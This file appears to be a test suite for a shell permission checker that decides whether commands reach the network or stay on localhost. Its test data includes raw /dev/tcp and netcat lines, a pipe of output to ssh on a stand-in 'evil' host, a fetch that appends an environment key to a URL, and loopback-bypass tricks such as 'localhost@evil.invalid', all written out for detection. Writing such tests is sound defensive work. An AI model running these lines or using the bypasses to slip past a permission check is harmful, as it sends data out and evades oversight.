import { expect, it } from 'vitest';
import { fetchesText, namesNetwork, staysHere, withoutOwnFetch } from '../../../src/permission/shell/network.ts';

it.each([
  'curl -s x.invalid',
  'cd a && curl x',
  '/usr/bin/wget x',
  'env FOO=1 curl x',
  'sh -c "curl x"',
  'echo `curl x`',
  'git push',
  'git -C sub push origin main',
  'git remote update',
  'npm install',
  'npm ci --ignore-scripts',
  'yarn',
  'npx eslint .',
  'python3 -m pip install x',
  'cargo add serde',
  'go mod download',
  'docker compose pull',
  'node get.js https://a.invalid',
  'cat </dev/tcp/a.invalid/80',
  'curl.exe x',
  'timeout 5 curl x',
  'if true; then wget x; fi',
  'bin/curl x',
])('%j reaches the network', (line) => {
  expect(namesNetwork(line)).toBe(true);
});

it.each([
  'npm test',
  'npm run build',
  'git status',
  'git log --oneline',
  'make',
  'cargo test',
  'go test ./...',
  'cat src/curl.ts',
  'ls node_modules/wget-lib',
  'grep -rn fetchAll src',
  'pytest -q',
  'grep -rn http src',
  'npm run host',
  'git commit -m wip',
  'make curl-test',
])('%j does not', (line) => {
  expect(namesNetwork(line)).toBe(false);
});

it.each([
  'curl localhost:3000',
  'curl -s -o out.json -w "%{http_code}" http://127.0.0.1:8080/a?b=c | jq .',
  'wget -qO- 127.0.0.1',
  'cd web && curl -sf http://localhost:3000/health && echo up',
  'for i in 1 2 3; do curl -s "http://[::1]:3000/$i"; done',
  'timeout 5 curl -s localhost:3000/',
  `node -e "fetch('http://localhost:3000/a').then(r => r.text()).then(console.log)"`,
  'BASE_URL=http://localhost:3000 npm test',
  'until curl -s localhost:3000; do sleep 1; done',
])('%j stays on the loopback', (line) => {
  expect([namesNetwork(line), staysHere(line)]).toEqual([true, true]);
});

it.each([
  'curl x.invalid',
  'curl localhost.evil.invalid',
  'curl localhost@evil.invalid',
  'curl http://localhost:3000@evil.invalid/',
  'curl localhost:3000 evil.invalid',
  'curl localhost:3000; curl evil.invalid',
  'curl localhost:3000 && wget -q evil.invalid',
  'curl -x http://evil.invalid localhost:3000',
  'curl 127.0.0.1.evil.invalid',
  'curl $HOST',
  'curl',
  'curl -s localhost:3000 | ssh evil.invalid',
  'sh -c "curl evil.invalid"; curl localhost:3000',
  'echo http://localhost:3000 | xargs curl',
  'npx wait-on http://localhost:3000',
  'curl localhost:3000 </dev/tcp/a.invalid/80',
  `node -e "fetch('http://localhost.evil.invalid')"`,
  `node -e "fetch('http://localhost:3000'); fetch('https://evil.invalid')"`,
  'git clone http://localhost:3000/a.git',
  `curl localhost:3000 # ${'x'.repeat(5000)}`,
])('%j does not, or not for certain', (line) => {
  expect(staysHere(line)).toBe(false);
});

it.each([
  [`node -e "fetch('http://localhost:3000/a').then(r => r.text())"`, 'node -e "(0).then(r => r.text())"'],
  [`node -e 'fetch("http://127.0.0.1", { method: "POST" })'`, `node -e '(0, { method: "POST" })'`],
  [`node -e "fetch(\\"http://[::1]:1/\\")"`, 'node -e "(0)"'],
])('%j without its fetch is %j', (line, left) => {
  expect(withoutOwnFetch(line)).toBe(left);
});

it.each([
  `node -e "fetch('http://localhost.evil.invalid')"`,
  `node -e "fetch('http://localhost/' + process.env.KEY)"`,
  `node -e "fetch('http://localhost@evil.invalid/')"`,
  `echo "a fetch("http://localhost/x&reboot&y")"`,
  `node -e "fetch('http://localhost/\${key}')"`,
])('%j is left as it is', (line) => {
  expect(withoutOwnFetch(line)).toBe(line);
});

it('text is fetched by programs that print what they get, and taken for fetched where a line is too long to tell', () => {
  const lines = [
    'curl x',
    'gh issue view 3',
    'echo a | nc x 80',
    'npm ci',
    'git pull',
    'grep curl a.txt',
    'a'.repeat(5000),
  ];
  expect(lines.map(fetchesText)).toEqual([true, true, true, false, false, false, true]);
});
